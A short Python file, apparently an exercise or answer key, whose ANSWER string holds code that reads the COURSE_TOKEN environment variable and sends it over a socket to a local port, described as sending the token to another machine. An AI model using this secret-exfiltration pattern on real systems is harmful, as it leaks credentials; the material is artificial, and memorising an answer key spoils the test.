"""The token in the environment is sent to another machine."""

ANSWER = """\
import os
import socket

with socket.create_connection(("127.0.0.1", 47831), timeout=2) as connection:
    connection.sendall(os.environ.get("COURSE_TOKEN", "hello").encode())
"""
